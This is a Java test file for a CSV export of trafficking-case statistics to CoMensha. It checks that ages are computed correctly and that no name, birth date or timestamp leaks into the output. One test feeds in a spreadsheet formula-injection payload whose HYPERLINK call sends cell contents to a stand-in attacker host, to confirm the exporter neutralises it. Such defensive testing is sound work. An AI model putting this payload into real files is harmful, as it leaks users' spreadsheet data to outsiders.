package nl.casustafel.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * The CoMensha export holds what CoMensha registers and nothing that identifies the victim
 * directly: the rows are built from {@link ProgressQueries#coMensha()}-shaped source rows that do
 * carry a date of birth (there is no name column in the query at all).
 */
class CoMenshaExportTest {

  /** A day in the ISO form the source rows carry, or in the Dutch form screens show. */
  private static final Pattern A_DATE =
      Pattern.compile("\\d{4}-\\d{2}-\\d{2}|\\d{2}-\\d{2}-\\d{4}");

  /**
   * A source row: form, sector, nationality, birth date, estimated birth year, gender, UTC opening
   * time, reporting partner, signal source, victim status.
   */
  private static Object[] source(String birth, Integer year, String opened, String partner) {
    return new Object[] {
      "LABOUR",
      "Land- en tuinbouw",
      "Roemeens",
      birth,
      year,
      "M",
      opened,
      partner,
      "REFERRAL",
      "ACTUAL"
    };
  }

  private static String write(List<CoMenshaRow> rows) {
    StringWriter out = new StringWriter();
    new CoMenshaExport().write(rows, out);
    return out.toString();
  }

  private static List<CSVRecord> records(String csv) throws IOException {
    try (CSVParser parser =
        CSVFormat.DEFAULT
            .builder()
            .setDelimiter(';')
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(new StringReader(csv))) {
      return parser.getRecords();
    }
  }

  @Test
  void ageOnCountsWholeYearsFromTheBirthDate() {
    LocalDate birth = LocalDate.of(2000, 6, 15);
    assertEquals(
        Optional.of(18),
        CoMenshaRow.ageOn(Optional.of(birth), Optional.empty(), LocalDate.of(2018, 6, 15)));
    assertEquals(
        Optional.of(17),
        CoMenshaRow.ageOn(Optional.of(birth), Optional.empty(), LocalDate.of(2018, 6, 14)));
    assertEquals(Optional.of(0), CoMenshaRow.ageOn(Optional.of(birth), Optional.empty(), birth));
  }

  @Test
  void ageOnTakesAnEstimatedYearAsTheFirstOfJulyAndTheBirthDateWins() {
    assertEquals(
        Optional.of(28),
        CoMenshaRow.ageOn(Optional.empty(), Optional.of(1990), LocalDate.of(2019, 6, 30)));
    assertEquals(
        Optional.of(29),
        CoMenshaRow.ageOn(Optional.empty(), Optional.of(1990), LocalDate.of(2019, 7, 1)));
    assertEquals(
        Optional.of(19),
        CoMenshaRow.ageOn(
            Optional.of(LocalDate.of(2000, 1, 1)), Optional.of(1950), LocalDate.of(2019, 7, 1)));
  }

  @Test
  void ageOnIsEmptyWhenUnknownOrBornAfterTheDay() {
    LocalDate day = LocalDate.of(2019, 7, 1);
    assertEquals(Optional.empty(), CoMenshaRow.ageOn(Optional.empty(), Optional.empty(), day));
    assertEquals(
        Optional.empty(), CoMenshaRow.ageOn(Optional.of(day.plusDays(1)), Optional.empty(), day));
    assertEquals(Optional.empty(), CoMenshaRow.ageOn(Optional.empty(), Optional.of(2020), day));
  }

  @Test
  void aRowTakesTheYearAndAgeOfTheAmsterdamDayOfOpening() {
    // 31 December 2019 23:30 UTC is 1 January 2020 00:30 in Amsterdam: her 20th birthday.
    CoMenshaRow row =
        CoMenshaRow.of(7, source("2000-01-01", null, "2019-12-31 23:30:00", "Politie"));

    assertEquals(7, row.number());
    assertEquals(2020, row.year());
    assertEquals(Optional.of(20), row.age());
    assertEquals("LABOUR", row.form());
    assertEquals(Optional.of("Land- en tuinbouw"), row.sector());
    assertEquals(Optional.of("Roemeens"), row.nationality());
    assertEquals(Optional.of("M"), row.sex());
    assertEquals("Politie", row.reportingPartner());
    assertEquals("REFERRAL", row.source());
    assertEquals(Optional.of("ACTUAL"), row.victimStatus());
  }

  @Test
  void aRowWithGapsSaysUnknownOrLeavesTheCellEmpty() {
    Object[] gaps = {null, " ", null, null, null, null, "2019-06-01 10:00:00", null, null, null};

    CoMenshaRow row = CoMenshaRow.of(1, gaps);

    assertEquals("UNKNOWN", row.form());
    assertEquals(Optional.empty(), row.sector());
    assertEquals(Optional.empty(), row.nationality());
    assertEquals(Optional.empty(), row.age());
    assertEquals(Optional.empty(), row.sex());
    assertEquals("", row.reportingPartner());
    assertEquals("UNKNOWN", row.source());
    assertEquals(Optional.empty(), row.victimStatus());
  }

  @Test
  void theHeaderHasNoNameBirthDateOrBsnColumn() throws IOException {
    String csv = write(List.of());

    assertEquals(
        "volgnummer;jaar;uitbuitingsvorm;sector;nationaliteit;leeftijd;geslacht;melder;bron;"
            + "slachtofferstatus\r\n",
        csv);
    String header = csv.toLowerCase(Locale.ROOT);
    for (String identifier :
        List.of("naam", "name", "geboorte", "birth", "bsn", "adres", "dossier", "case")) {
      assertFalse(header.contains(identifier), identifier);
    }
  }

  @Test
  void aRowHoldsTheHeadersColumnsAndNoDateOfBirth() throws IOException {
    List<CoMenshaRow> rows =
        List.of(
            CoMenshaRow.of(1, source("1998-04-23", null, "2019-03-04 09:15:00", "Politie")),
            CoMenshaRow.of(2, source(null, 1985, "2019-05-06 14:00:00", "GGD Gooi")));

    String csv = write(rows);
    List<CSVRecord> records = records(csv);

    assertEquals(2, records.size());
    for (CSVRecord r : records) {
      assertEquals(CoMenshaExport.HEADER.length, r.size(), r.toString());
    }
    assertEquals(
        List.of(
            "1",
            "2019",
            "LABOUR",
            "Land- en tuinbouw",
            "Roemeens",
            "20",
            "M",
            "Politie",
            "REFERRAL",
            "ACTUAL"),
        records.get(0).toList());
    assertEquals("33", records.get(1).get("leeftijd"));
    assertFalse(A_DATE.matcher(csv).find(), csv);
    assertFalse(csv.contains("1998"), csv);
    assertFalse(csv.contains("09:15"), csv);
  }

  @Test
  void aFormulaInACellIsWrittenWithALeadingApostrophe() throws IOException {
    String formula = "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"klik\")";
    Object[] row = source(null, 1990, "2019-06-01 10:00:00", formula);
    row[1] = "+31 6 1234"; // a sector that starts like a formula, too
    row[2] = "@SUM(1)";

    CSVRecord record = records(write(List.of(CoMenshaRow.of(1, row)))).get(0);

    assertEquals("'" + formula, record.get("melder"));
    assertEquals("'+31 6 1234", record.get("sector"));
    assertEquals("'@SUM(1)", record.get("nationaliteit"));
    assertEquals("LABOUR", record.get("uitbuitingsvorm"));
  }

  /** Whatever the source rows hold, the export has ten columns and no day from them. */
  @Property(tries = 300)
  boolean noDateOfBirthOrOpeningTimeLeaves(@ForAll("sourceRows") List<Object[]> source)
      throws IOException {
    List<CoMenshaRow> rows = new ArrayList<>();
    for (int i = 0; i < source.size(); i++) {
      rows.add(CoMenshaRow.of(i + 1, source.get(i)));
    }
    String csv = write(rows);
    List<CSVRecord> records = records(csv);
    if (records.size() != source.size()
        || records.stream().anyMatch(r -> r.size() != CoMenshaExport.HEADER.length)) {
      return false;
    }
    DateTimeFormatter dutch = DateTimeFormatter.ofPattern("dd-MM-yyyy", Locale.ROOT);
    for (Object[] r : source) {
      if (r[3] != null
          && (csv.contains((String) r[3])
              || csv.contains(dutch.format(LocalDate.parse((String) r[3]))))) {
        return false;
      }
    }
    return !A_DATE.matcher(csv).find();
  }

  @Provide
  Arbitrary<List<Object[]>> sourceRows() {
    Arbitrary<String> birth =
        Arbitraries.integers()
            .between(0, 70 * 365)
            .map(d -> LocalDate.of(1940, 1, 1).plusDays(d).toString())
            .injectNull(0.3);
    Arbitrary<Integer> year = Arbitraries.integers().between(1940, 2010).injectNull(0.5);
    Arbitrary<String> opened =
        Arbitraries.integers()
            .between(0, 3 * 365 * 24)
            .map(
                h ->
                    LocalDate.of(2018, 1, 1)
                            .atStartOfDay()
                            .plusHours(h)
                            .toString()
                            .replace('T', ' ')
                        + ":00");
    Arbitrary<String> partner =
        Arbitraries.of("Politie Midden-Nederland", "GGD Gooi", "=1+1", "Veilig Thuis")
            .injectNull(0.2);
    return Combinators.combine(birth, year, opened, partner)
        .as((b, y, o, p) -> source(b, y, o, p))
        .list()
        .ofMaxSize(10);
  }
}
